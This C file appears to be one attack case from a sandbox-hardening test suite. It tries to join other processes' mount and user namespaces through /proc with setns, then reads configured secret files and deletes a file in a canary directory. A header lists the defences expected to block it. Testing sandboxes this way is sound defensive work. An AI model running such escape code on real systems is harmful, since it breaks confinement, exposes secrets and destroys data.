// attack: escape: setns into pid 1's (and every visible process') mount namespace via /proc/PID/ns/mnt, then read the secrets and destroy the canary there
// stopped by: kernel(/proc/1/ns/mnt), seccomp(setns), sign-off(delete)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void) {
    const char *secrets = secret_paths(), *canary = getenv("CANARY");
    if (!secrets || !canary) { fprintf(stderr, "SECRETS/HOME or CANARY not set\n"); return 2; }
    int joined = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) && !joined) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/ns/mnt", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) { printf("open(%s) -> %s\n", path, strerror(errno)); continue; }
        errno = 0;
        long r = syscall(SYS_setns, fd, CLONE_NEWNS);
        printf("setns(%s, CLONE_NEWNS) -> %ld (%s)\n", path, r, r < 0 ? strerror(errno) : "joined");
        close(fd);
        if (r == 0) joined = 1;
        // Also the user namespace first (it would grant the capabilities setns needs).
        snprintf(path, sizeof path, "/proc/%s/ns/user", e->d_name);
        fd = open(path, O_RDONLY);
        if (fd >= 0) {
            errno = 0;
            r = syscall(SYS_setns, fd, CLONE_NEWUSER);
            printf("setns(%s, CLONE_NEWUSER) -> %ld (%s)\n", path, r, r < 0 ? strerror(errno) : "joined");
            close(fd);
        }
    }
    if (d) closedir(d);
    fflush(stdout);
    char list[8192];
    snprintf(list, sizeof list, "%s", secrets);
    char *save = NULL;
    for (char *s = strtok_r(list, ":", &save); s; s = strtok_r(NULL, ":", &save)) dump("after setns", s);
    DIR *c = opendir(canary);
    char victim[8192] = "";
    while (c && (e = readdir(c))) if (e->d_type == DT_REG) { snprintf(victim, sizeof victim, "%s/%s", canary, e->d_name); break; }
    if (c) closedir(c);
    if (victim[0]) {
        errno = 0;
        long r = unlink(victim);
        printf("unlink(%s) -> %ld (%s)\n", victim, r, r < 0 ? strerror(errno) : "success");
    }
    return 0;
}
